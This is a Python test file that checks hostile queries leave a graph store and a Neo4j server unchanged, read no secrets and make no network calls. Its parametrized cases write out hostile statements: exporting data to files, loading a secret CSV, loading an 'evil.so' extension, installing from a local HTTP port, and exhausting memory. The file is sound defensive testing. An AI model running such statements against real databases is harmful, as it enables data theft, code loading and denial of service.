"""Hostile queries do no harm on either engine: nothing changes, nothing is read, nobody is called."""

import os
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from kg.errors import KgError
from kg.store.embedded import EmbeddedStore
from kg.store.guard_process import run_apart
from kg.store.neo4j import Neo4jStore
from kg.store.rows import GraphRows
from tests.neo4j_server import Neo4jServer
from tests.store.hostile import PAYLOADS
from tests.store.test_embedded import everything

SECRET = "root-of-all-secrets"


class Watch:
    """What must not change, be read or be called while hostile statements run."""

    def __init__(self, folder: Path) -> None:
        self.out = folder / "out"
        self.out.mkdir()
        self.secret = folder / "secret.csv"
        self.secret.write_text(f"{SECRET}\n", encoding="utf-8")
        self.calls: list[str] = []
        self._server = socket.create_server(("127.0.0.1", 0))
        self.port = self._server.getsockname()[1]
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                with self._server.accept()[0] as connection:
                    self.calls.append(repr(connection.getpeername()))
            except OSError:
                return

    def close(self) -> None:
        self._server.close()

    def payloads(self) -> list[str]:
        return [text.format(out=self.out, secret=self.secret, port=self.port) for text in PAYLOADS]


@pytest.fixture
def watch(tmp_path: Path) -> Iterator[Watch]:
    watching = Watch(tmp_path)
    yield watching
    watching.close()


def files(folder: Path) -> dict[str, bytes]:
    return {str(path): path.read_bytes() for path in sorted(folder.rglob("*")) if path.is_file()}


def test_there_are_two_hundred_different_hostile_statements() -> None:
    assert len(set(PAYLOADS)) >= 200


def test_hostile_statements_do_nothing_to_the_embedded_store(
    embedded: EmbeddedStore, sample: GraphRows, watch: Watch
) -> None:
    before = files(embedded.path.parent)
    for payload in watch.payloads():
        try:
            found = embedded.user_rows(payload, timeout=20)
        except KgError:
            continue
        assert SECRET not in str(found), payload
    assert files(embedded.path.parent) == before
    assert list(watch.out.iterdir()) == []
    assert watch.calls == []
    assert everything(embedded, sample).nodes == sample.nodes


def state(server: Neo4jServer, store: Neo4jStore) -> dict[str, object]:
    """All that a hostile statement might change in a server."""
    import neo4j

    with (
        neo4j.GraphDatabase.driver(server.uri, auth=(server.user, server.password)) as driver,
        driver.session() as open_,
    ):
        listed = {
            what: sorted(str(record.values()[0]) for record in open_.run(query))
            for what, query in {
                "labels": "CALL db.labels()",
                "types": "CALL db.relationshipTypes()",
                "keys": "CALL db.propertyKeys()",
                "constraints": "SHOW CONSTRAINTS YIELD name",
                "indexes": "SHOW INDEXES YIELD name",
                "users": "SHOW USERS YIELD user",
                "databases": "SHOW DATABASES YIELD name",
                "settings": "SHOW SETTINGS YIELD name, value RETURN name + ' ' + coalesce(value, '')",
            }.items()
        }
        counts = open_.run("MATCH (n) RETURN count(n)").single(strict=True)[0]
    return {**listed, "nodes": counts, "checksum": store.checksum()}


@pytest.mark.neo4j
def test_hostile_statements_do_nothing_to_the_server(
    loaded: Neo4jStore, neo4j_server: Neo4jServer, sample: GraphRows, watch: Watch
) -> None:
    before = state(neo4j_server, loaded)
    assert before["checksum"] == sample.checksum()
    for payload in watch.payloads():
        try:
            found = loaded.user_rows(payload, timeout=20)
        except KgError:
            continue
        assert SECRET not in str(found), payload
    assert state(neo4j_server, loaded) == before
    assert list(watch.out.iterdir()) == []
    assert watch.calls == []


def apart(store: EmbeddedStore, statement: str) -> str:
    """What a statement gives that no guard has seen, or the message that it ends in."""
    try:
        return str(run_apart(store.path, statement, {}, timeout=5, limit=100).rows)
    except KgError as error:
        return str(error)


@pytest.mark.skipif(os.name == "nt", reason="Windows has no limits on a process's files; there the guard stands alone")
@pytest.mark.parametrize(
    "statement",
    [
        "COPY (MATCH (n:Place) RETURN n.name) TO '{out}/places.csv'",
        "LOAD FROM '{secret}' (FILE_FORMAT='csv', HEADER=false) RETURN *",
        "LOAD EXTENSION '{out}/evil.so'",
        "INSTALL evil FROM 'http://127.0.0.1:{port}/'",
        "CHECKPOINT",
        "CALL read_csv_serial('{secret}') RETURN *",
        "UNWIND range(1, 500000000) AS x RETURN collect(x)",
    ],
)
def test_even_unguarded_the_process_has_nothing_to_lose(statement: str, embedded: EmbeddedStore, watch: Watch) -> None:
    before = files(embedded.path.parent)
    said = apart(embedded, statement.format(out=watch.out, secret=watch.secret, port=watch.port))
    assert SECRET not in said
    assert files(embedded.path.parent) == before
    assert list(watch.out.iterdir()) == []
    assert watch.calls == []


def test_the_process_sees_no_password(embedded: EmbeddedStore, monkeypatch: pytest.MonkeyPatch) -> None:
    seen: list[dict[str, str]] = []
    run = subprocess.run

    def listen(*arguments: object, **options: object) -> object:
        seen.append(options["env"])  # type: ignore[arg-type]
        return run(*arguments, **options)  # type: ignore[call-overload]

    monkeypatch.setenv("NEO4J_PASSWORD", SECRET)
    monkeypatch.setattr(subprocess, "run", listen)
    assert embedded.user_rows("MATCH (p:Place) RETURN count(*) AS n").rows == [{"n": 6}]
    assert SECRET not in str(seen)
